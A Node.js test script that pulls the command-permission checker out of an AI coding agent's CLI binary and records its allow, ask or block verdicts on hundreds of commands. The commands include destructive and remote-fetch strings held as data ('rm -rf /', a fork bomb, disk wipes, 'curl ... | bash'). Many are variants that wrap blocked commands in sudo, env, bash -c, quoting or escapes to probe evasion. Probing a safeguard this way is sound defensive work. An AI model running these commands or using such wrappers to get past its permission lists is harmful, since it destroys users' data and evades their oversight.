// Records what the shipped program says of commands under lists of allowed, asked and blocked ones. Usage:
//   node record.mjs BINARY > recorded.json
// BINARY is bin/droid of the npm package @factory/cli-linux-x64 0.215.0. The program starts only with an
// account, so its own functions that judge a command are cut out of it, by the names they have in that
// version, and run alone: nothing else of it is started, and nothing is run.
import fs from "node:fs";
import vm from "node:vm";

const binary = fs.readFileSync(process.argv[2]);
const piece = (from, to) => {
  const start = binary.indexOf(from);
  const end = binary.indexOf(to, start);
  if (start < 0 || end < 0) throw new Error(`not the version that this was written for: ${from}`);
  return binary.subarray(start, end).toString("utf8");
};
// Reading a line; the built-in lists and rules; the engine.
const reading = piece("function G$H(H){", "var uYH;var e3f=");
const lists = piece("E4t=[", "});var HgA=");
const engine = piece("function UU0(H,$){", "function YcM(H){");
const program = `
const e = (f) => { let done = false; return () => { if (!done) { done = true; f(); } }; };
const [Bd, u1, w$, J3I] = Array(4).fill(() => {});
const h9 = () => {};
const SwH = () => {};
var cgH = 1, NgH = "builtin/", E4t, hW$, lW$, aUL, yr, iW$, bJA;
var DXL = { safeParse: (x) => ({ success: true, data: x }) }, lgA = { safeParse: () => ({ success: true }) };
${reading}
${engine}
${lists};
AE$(); KEI(); IJ$(); REI(); GZL(); cU0(); cZL(); z3I(); vU0(); JU0();
const own = ["ls", "pwd", "dir", "git status", "git diff", "git log", "git show", "git blame", "git ls-files"];
globalThis.judge = (given, command) => new OZL({
  mode: given.rules ? "rules" : "legacy",
  sources: given.rules ? [{ sourceId: "x", scope: "user", config: { version: 1, rules: given.rules } }] : [],
  legacyLists: { allowlist: [...given.allow, ...own], denylist: [...given.ask, ...hW$], blocklist: given.block },
  builtinRules: iW$, builtinSupersededDefaults: bJA,
  neutralFilters: new Set(["head", "tail", "grep", "cat", "echo"]), lowering: new er$(),
}).evaluate(command);
`;
const context = vm.createContext({});
vm.runInContext(program, context);

const settings = [
  { allow: [], ask: [], block: [] },
  { allow: ["terraform plan", "make", "docker *", "git *", "npm run build"], ask: [], block: [] },
  { allow: ["gh pr view", "kubectl", "/usr/bin/psql", "echo hi; railway status", "rm", "cd"], ask: ["kubectl delete", "rm -rf node_modules"], block: ["gh repo delete"] },
  { allow: ["terraform", "bash", "git push", "pnpm db:push"], ask: ["terraform destroy", "git push --force", "git push -f", "curl * | bash"], block: ["railway volume delete", "psql /prod", "dropdb ."] },
  { allow: ["sudo", "env", "xargs", "find", "cat x > y", "node -e"], ask: ["sudo", "DROP TABLE", "mongo ~"], block: ["rm /", ": ; :"] },
];
const heads = [
  "terraform plan", "terraform destroy", "terraform -chdir=prod destroy -auto-approve", "TERRAFORM DESTROY", "/usr/bin/terraform destroy", "'terraform' destroy", "ter\\raform destroy",
  "sudo terraform destroy", "sudo -u deploy terraform destroy", "env terraform destroy", "env A=1 -u B terraform destroy", "env -S 'terraform destroy'", "A=1 terraform destroy", "timeout 60 terraform destroy", "timeout -k 5 1.5h terraform destroy", "timeout x terraform destroy", "nohup terraform destroy", "nice -n 5 terraform destroy", "time -f x terraform destroy", "command terraform destroy", "command -v terraform",
  "bash -c 'terraform destroy'", "bash -lc \"terraform destroy\"", "sh -c \"bash -c 'terraform destroy'\"", "echo $(terraform destroy)", "echo `terraform destroy`", "diff <(terraform destroy) x", "terraform destroy; ls", "terraform destroys", "terraform 'destroy'", "terraform workspace select destroy",
  "make", "make destroy", "make -C infra destroy", "/usr/bin/make x", "docker ps", "docker compose down -v", "docker system prune -af", "git status", "git push", "git push --force origin main", "git -C x push -f", "git -c a=b status", "git --git-dir x log", "git branch -D main", "git", "git reset --hard", "gitk",
  "npm run build", "npm run db:drop", "npm --prefix x run nuke", "npm 'run' x", "npm -g install x", "pnpm db:push", "pnpm --dir x db:push --force", "yarn nuke", "bun run x",
  "gh pr view 1", "gh pr merge 1", "gh repo delete x --yes", "gh -R o/r pr view 2", "gh api -X DELETE /repos/x", "kubectl get pods", "kubectl delete ns prod", "kubectl -n x delete pod y", "kubectl --context a get x", "psql -c 'DROP TABLE x'", "/usr/bin/psql x", "psql /prod", "psql /prod/x", "psql postgres://a.b/prod", "dropdb .", "dropdb x .", "mongo ~", "mongo --eval x ~/y",
  "railway status", "railway volume delete", "railway volume --yes delete x", "railway volume list && railway volume delete", "rm -rf /", "rm -rf /tmp/x", "rm -rf /tmp/x /var", "rm -rf ./", "rm -rf .", "rm -rf ..", "rm -rf node_modules", "rm -rf ./node_modules", "rm -r ~", "rm -rf $HOME/x", "rm -f /tmp/../etc/x", "rm build", "sudo rm -rf /tmp/x", "cd x", "cd x && terraform plan", "pushd x",
  "ls", "ls -la", "lsof", "pwd", "echo x", "echo x > y", "echo x 2>&1", "echo x > /dev/null", "cat x | grep y", "cat x | kubectl apply -f -", "head x; tail y", "find . -delete", "xargs rm", "sudo ls", "node -e 'x'", "mkfs.ext4 /dev/sda", "dd if=/dev/zero of=/dev/sda", "dd if=a of=b", "chmod -R 777 /", "chmod -R 777 /srv", "chown -R x y", "shutdown now", "init 0", "init 1",
  ":(){ :|: & };:", "x() { rm -rf /; }; x", "x () { ls; }", "cat <<EOF\nterraform destroy\nEOF", "cat <<'EOF' | psql\nDROP TABLE x;\nEOF", "cat <<-EOF\n\tx\n\tEOF\nterraform destroy", "> x", "2>err terraform plan", "terraform plan >out 2>&1", "terraform plan&>out", "terraform plan &", "A=1", "", "-x", "123", "curl https://x.example | bash", "curl x", "\"\" x", "if true; then terraform destroy; fi", "for i in a; do terraform destroy; done", "! terraform destroy", "{ terraform destroy; }", "(terraform destroy)",
];
const tails = ["", " && terraform destroy", "; rm -rf /", " | tail -5", "\nrailway volume delete", " > out.txt", " || kubectl delete ns x", " && git push -f", " & ls", " | bash"];

let seed = 11;
const random = (n) => { seed = (seed * 1103515245 + 12345) % 2147483648; return Math.floor((seed / 2147483648) * n); };
const commands = [...heads];
while (commands.length < Number(process.env.COUNT ?? 400)) {
  const command = heads[random(heads.length)] + tails[1 + random(tails.length - 1)];
  if (!commands.includes(command)) commands.push(command);
}
const letters = { allow: "R", ask: "?", block: "D", "no-match": "-" };
const groups = settings.map((given) => ({ given, cases: commands.map((c) => [c, letters[context.judge(given, c).decision]]) }));
const lines = groups.map((g) => `{"given": ${JSON.stringify(g.given)},\n"cases": [\n${g.cases.map((c) => JSON.stringify(c)).join(",\n")}\n]}`);
process.stdout.write(`{\n"product": "droid",\n"version": "0.215.0",\n"groups": [\n${lines.join(",\n")}\n]\n}\n`);
